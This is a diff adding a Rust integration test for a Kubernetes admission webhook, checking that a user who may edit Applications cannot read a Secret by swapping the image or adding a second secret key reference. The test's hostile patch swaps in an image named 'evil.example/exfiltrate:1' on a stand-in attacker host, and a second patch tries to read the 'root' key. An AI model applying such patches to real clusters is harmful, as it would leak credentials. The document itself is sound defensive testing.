@@ -2,7 +2,7 @@
 //! `unchanged`, denials naming every field, the environment's Secrets and ConfigMaps checked
 //! against the author's own rights, and the Ingress warnings (named only to who may read).
 use anyhow::Result;
-use kubesteer_tests::{apply_as, eventually, grant, jsonpath, kubectl_ok, unique, Webhook};
+use kubesteer_tests::{apply_as, eventually, grant, jsonpath, kubectl, kubectl_ok, unique, Webhook};
 use serde_json::Value;
 
 const APP: &str = "apiVersion: kubesteer.io/v1alpha1\nkind: Application\n";
@@ -134,6 +134,60 @@ fn the_environment_reads_only_what_its_author_may_read() -> Result<()> {
         "the grants seen",
         || Ok(apply_as("erin", ns.name(), &yaml)?.ok.then_some(())),
     )?;
+    Ok(())
+}
+
+/// The probe of a Secret read through an image swap: bob may edit Applications, not read the
+/// Secret `db` an admin's Application reads. He may scale it, but neither swap its image nor
+/// read a second key of that Secret.
+#[test]
+fn an_image_swap_or_a_second_key_needs_the_right_to_read_the_secret() -> Result<()> {
+    let webhook = Webhook::start("app-swap")?;
+    let ns = webhook.namespace("app-swap")?;
+    grant(
+        ns.name(),
+        "app-editor",
+        "get,list,create,update,patch",
+        "applications.kubesteer.io",
+        "bob",
+    )?;
+    let yaml = format!(
+        "{APP}metadata: {{name: site}}\nspec:\n  image: nginx\n  env:\n  - {{name: PW, valueFrom: {{secretKeyRef: {{name: db, key: pw}}}}}}\n"
+    );
+    let run = ns.apply(&yaml)?;
+    assert!(run.ok, "the admin may: {run:?}");
+    let patch_as_bob = |patch: &str| {
+        kubectl(
+            &[
+                "patch", "--as=bob", "-n", ns.name(), "application/site", "--type=merge", "-p",
+                patch,
+            ],
+            None,
+        )
+    };
+    let run = patch_as_bob(r#"{"spec":{"replicas":3}}"#)?;
+    assert!(run.ok, "an edit that runs nothing new with the Secret: {run:?}");
+    let want = format!(
+        "spec.env[0].valueFrom.secretKeyRef.name: Forbidden: user \"bob\" may not get secrets \"db\" in namespace \"{}\"",
+        ns.name()
+    );
+    let run = patch_as_bob(r#"{"spec":{"image":"evil.example/exfiltrate:1"}}"#)?;
+    assert!(!run.ok, "an image swap reads the Secret: {run:?}");
+    assert!(run.stderr.contains(&want), "{want} not in {}", run.stderr);
+    let run = patch_as_bob(
+        r#"{"spec":{"env":[{"name":"PW","valueFrom":{"secretKeyRef":{"name":"db","key":"pw"}}},{"name":"ROOT","valueFrom":{"secretKeyRef":{"name":"db","key":"root"}}}]}}"#,
+    )?;
+    assert!(!run.ok, "a second key of the Secret: {run:?}");
+    assert!(
+        run.stderr.contains("spec.env[1].valueFrom.secretKeyRef.name: Forbidden"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(
+        jsonpath(ns.name(), "application/site", "{.spec.image}")?,
+        "nginx",
+        "nothing of the denied edits was stored"
+    );
     Ok(())
 }
 
